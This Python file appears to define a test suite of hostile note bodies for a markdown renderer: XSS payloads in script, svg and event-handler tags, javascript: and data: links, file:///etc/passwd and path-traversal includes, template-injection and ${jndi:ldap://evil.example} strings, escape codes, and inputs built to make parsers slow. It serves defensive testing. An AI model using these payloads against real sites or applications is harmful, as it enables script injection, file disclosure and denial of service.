"""Bodies: markup, addresses, includes; and text that is slow to read for whoever reads it badly."""

from __future__ import annotations

import random

from .cases import Group, Outcome, invented, prose, sentences

READ = Outcome.READ

group = Group("bodies")


def _body(name: str, text: str, outcome: Outcome = READ) -> None:
    group.post(name, f"# {invented(name)}\n\n{sentences(name)}\n{text}\n", outcome)


# --- raw HTML -----------------------------------------------------------------------------------
_body("script", "<script>PWN('body')</script>\n\n<script src=https://evil.example/x.js></script>")
_body("iframe", '<iframe src="javascript:PWN(1)" srcdoc="<script>PWN(2)</script>"></iframe>')
_body(
    "onerror",
    "<img src=x onerror=PWN(1)> <video><source onerror=PWN(2)></video> <body onload=PWN(3)>",
)
_body(
    "svg",
    "<svg onload=PWN(1)><script>PWN(2)</script><a xlink:href='javascript:PWN(3)'><text>x</text></a></svg>",
)
_body("math", "<math><mtext></form><form><mglyph><style></math><img src onerror=PWN(1)>")
_body(
    "form",
    "<form action=https://evil.example><input name=q autofocus onfocus=PWN(1)><button formaction=javascript:PWN(2)>",
)
_body(
    "meta",
    "<meta http-equiv=refresh content='0;url=https://evil.example'><base href=https://evil.example/>",
)
_body(
    "link",
    "<link rel=stylesheet href=https://evil.example/x.css><style>@import 'https://evil.example/y.css'</style>",
)
_body(
    "object",
    "<object data=javascript:PWN(1)></object><embed src=data:text/html;base64,PHNjcmlwdD4=>",
)
_body("half-tags", "<scr<script>ipt>PWN(1)</scr</script>ipt> <img src=x onerror=PWN(2)//")
_body("open-comment", "<!-- never closed\n\n" + sentences("open-comment"))
_body("open-tag", "<div onclick='PWN(1)\n\n" + sentences("open-tag"))
_body(
    "details",
    "<details open ontoggle=PWN(1)><summary>x</summary></details><marquee onstart=PWN(2)>",
)
_body("style-attribute", '<p style="background:url(https://evil.example/b.png)">x</p>')

# --- addresses ----------------------------------------------------------------------------------
_body(
    "javascript-links",
    "[a](javascript:PWN(1)) [b](JaVaScRiPt:PWN(2)) [c](&#106;avascript:PWN(3)) [d](java\tscript:PWN(4)) [e](<javascript:PWN(5)>) <javascript:PWN(6)>",
)
_body(
    "data-links",
    "[a](data:text/html,<script>PWN(1)</script>) ![b](data:image/svg+xml,<svg/onload=PWN(2)>) [c](vbscript:PWN(3))",
)
_body(
    "file-links",
    "[a](file:///etc/passwd) ![b](file:///etc/passwd) [c](/etc/passwd) [d](../../outside/secret.md) [e](..%2f..%2foutside%2fsecret.md)",
)
_body(
    "remote-images",
    "![pixel](https://evil.example/pixel.png) ![x](//evil.example/x.png) <img src=https://evil.example/z.png>",
)
_body(
    "broken-addresses",
    '[a](https://evil.example:99999999/) [b](https://[::1) [c](http://) [d](https://user:pw@evil.example/) https://evil.example/"onload=x [e](https://evil.example/\x07x)',
)
_body(
    "reference-links",
    '[a][1] [b][2] [x]\n\n[1]: javascript:PWN(1)\n[2]: <data:text/html,x> "t" onclick=PWN(2)\n[x]: https://evil.example/\n  \'title" onclick="PWN(3)\'',
)
_body(
    "autolinks",
    "<https://evil.example/<script>> http://evil.example/')-alert(1) www.evil.example/\"><script>PWN(1)</script>",
)
_body(
    "wikilinks",
    "[[../../outside/secret]] [[/etc/passwd]] ![[../../outside/secret.md]] [[a|b|c]] [[]] [[|]] [[#]] [[a\nb]] [[javascript:PWN(1)]] [[<img src=x onerror=PWN(2)>]]",
)
_body(
    "fake-arxiv",
    'https://arxiv.org/abs/1706.03762"><script>PWN(1)</script> arXiv:9999.99999 arXiv:0000.00000v999 https://arxiv.org.evil.example/abs/1706.03762',
)
_body(
    "fake-doi",
    'doi:10.1000/<script>PWN(1)</script> https://doi.org/10.1/"><img src=x onerror=PWN(2)> 10.1000/'
    + "x" * 5000,
)
_body(
    "includes",
    '{% include ../../outside/secret.md %} {{< readfile "../../outside/secret.md" >}} !!!include(../../outside/secret.md)!!! <!--#include file="../../outside/secret.md"--> --8<-- "../../outside/secret.md"\n\n.. include:: ../../outside/secret.md',
)
_body(
    "templates",
    "{{ config }} {% raw %} {{ ''.__class__.__mro__ }} {# x #} {{ 7*'7' }} <%= `id` %> ${jndi:ldap://evil.example/x}",
)
_body(
    "escape-codes",
    "\x1b[2J\x1b]52;c;b3duZWQ=\x07 \x9b2J \u202eback\u202c \x00".replace("\x00", "\x01"),
)

# --- slow for bad readers -----------------------------------------------------------------------
_body("stars", "*" * 40_000)
_body("stars-text", "**a *b " * 8000)
_body("underscores", "_a__b" * 12_000)
_body("open-brackets", "[" * 50_000)
_body("link-brackets", "[a](" * 20_000)
_body("image-brackets", "![[" * 20_000)
_body("close-brackets", "]" * 30_000 + "(" * 30_000)
_body("backticks", "".join("`" * (i % 60 + 1) + "a" for i in range(4000)))
_body("angle", "<a" * 40_000)
_body("angle-attributes", "<a " + "b='" * 20_000)
_body("comments", "<!--" * 20_000)
_body("cdata", "<![CDATA[" * 10_000 + "<?" * 10_000)
_body("ampersands", "&" * 30_000 + "&#x" * 10_000)
_body("backslashes", "\\" * 60_000)
_body("dollars", "$$" * 20_000 + "$a" * 10_000)
_body("begin-equation", "\\begin{equation}\n" * 8000)
_body("quotes", ">" * 20_000 + " deep")
_body("quotes-stairs", "\n".join(">" * i + " x" for i in range(1, 600)))
_body("lists-deep", "\n".join("  " * i + "- item" for i in range(700)))
_body("lists-flat", "- a gate\n" * 30_000)
_body("list-markers", "- " * 20_000 + "x")
_body("headings", "".join(f"# Heading {i}\n" for i in range(100_000)))
_body("headings-empty", "#\n" * 60_000)
_body("setext", "a\n=\n" * 30_000)
_body("tables", "|" + "a|" * 5000 + "\n|" + "-|" * 5000 + "\n" + ("|" + "b|" * 50 + "\n") * 500)
_body("pipes", "|" * 60_000)
_body("fences", "```\n" * 20_000)
_body("fence-open", "```python\n" + "x = 1\n" * 20_000)
_body("footnotes", "".join(f"[^{i}]: note {i}\n" for i in range(8000)))
_body(
    "definitions",
    "".join(f"[a{i}]: https://evil.example/{i}\n" for i in range(8000)) + "[a1] " * 4000,
)
_body("spaces", " " * 100_000 + "x" + "\t" * 100_000 + "x")
_body("blank-lines", "\n" * 200_000 + "end")
_body("dots", "." * 100_000 + " A" + ". B" * 20_000)
_body("no-stop", "gate and " * 25_000)
_body("one-word", "g" * 400_000)
_body("capitals", "The Gate Of The " * 12_000)
_body("names", " ".join(f"Gate-{i}Net" for i in range(12_000)))
_body("commas", "Smith, J., " * 15_000 + "2017.")
_body("parens", "(" * 40_000 + "2017" + ")" * 40_000)
_body("years", "(2017) " * 20_000)
_body("citations", "[Ada et al., 2017; Bob et al., 2018] " * 4000)
_body("builds-on", "It builds on BERT, GPT-2, ResNet and T5. " * 3000)
_body("extends-chain", "It extends " + "the idea of the method of " * 6000 + "BERT.")
_body("not-not", "It does " + "not " * 20_000 + "extend BERT.")
_body("hyphens", "gate-" * 30_000 + "\n" + "gate-\nkeeping " * 8000)
_body("dashes", "-" * 60_000 + "\n" + "— " * 20_000)
_body("quotation", '"a ' * 30_000 + "“" * 20_000)
_body("digits", "1" * 100_000 + " " + "1.1" * 20_000)
_body("identifiers", "arXiv:1706.0" * 12_000 + " 10.1000/" * 10_000)
_body("addresses", "https://" * 20_000 + " " + "https://evil.example/(" * 8000)
_body("mails", "a@" * 30_000 + "b.c" * 20_000)
_body("wikilinks-open", "[[a|" * 15_000)
_body("combining", "e" + "\u0301" * 50_000)
_body("emoji", "👩‍👩‍👧‍👦" * 8000)
_body("tags", "#tag " * 20_000 + "#" * 20_000)
_body("field-lines", "key:: value\n" * 15_000)
_body("html-deep", "<div>" * 15_000 + "x" + "</div>" * 15_000)
_body("html-blocks", "<div>\n\n" * 15_000)
_body("bibtex", "```bibtex\n" + "@article{a, title={" + "{" * 10_000 + "}\n```")
_body("bibtex-many", "@inproceedings{k, author = {A and " + "B and " * 8000 + "C}, title = {T}}")
group.post("one-line", f"# {invented('one-line')} " + "extends BERT and " * 60_000, Outcome.ANY)
group.post("only-heading-marks", "#" * 100_000)
group.post("heading-of-hashes", ("#" * 3000 + " x ") * 30)
group.post("no-heading", "\n\n\n   \n" + sentences("no-heading"), READ)
group.post("only-code", "```\nx = 1\n```\n", READ)
group.post("only-html", "<div>x</div>\n", READ)
group.post("only-image", "![x](x.png)\n", READ)
group.post("only-link", "[x](y.md)\n", READ)
group.post("only-rule", "---\n---\n---\n")
group.post("only-spaces", " \t\n \u3000\n")

# --- made by a machine --------------------------------------------------------------------------
_SOUP = (
    "# ", "## ", "- ", "> ", "```", "`", "*", "**", "_", "[", "](", ")", "[[", "]]", "|", "<", ">", "</", "<!--", "-->",
    "\n", "\n\n", "---\n", "$", "$$", "\\", "&", '"', "'", "{", "}", "https://evil.example/", "javascript:", "\u202e", "\u200b",
    "\x1b[", "BERT ", "extends ", "builds on ", "is not ", "a ", "arXiv:1706.03762 ", "(2017) ", "et al. ", "x" * 50,
    "é", "门", "🔥", ": ", ", ", ". ", "\t", "    ", "1. ", "@", "#tag ", "::", "go to post\n", "\\begin{align}", "\\]",
)  # fmt: skip
for _number in range(12):
    _dice = random.Random(7_000 + _number)  # seeded
    group.post(f"soup-{_number}", prose(f"soup-{_number}") + "".join(_dice.choices(_SOUP, k=1500)))
for _number in range(8):
    _dice = random.Random(8_000 + _number)
    _yaml = "".join(
        _dice.choices(
            (
                "a: ",
                "b",
                "\n",
                "- ",
                "[",
                "]",
                "{",
                "}",
                "'",
                '"',
                "&x ",
                "*x ",
                "!!int ",
                "|\n",
                "  ",
                ": ",
                "#",
                "title: ",
                "2020",
                ",",
                "? ",
                "%",
                "\t",
            ),
            k=60,
        )
    )
    group.post(
        f"matter-soup-{_number}", f"---\ntitle: t\n{_yaml}\n---\n" + prose(f"matter-soup-{_number}")
    )
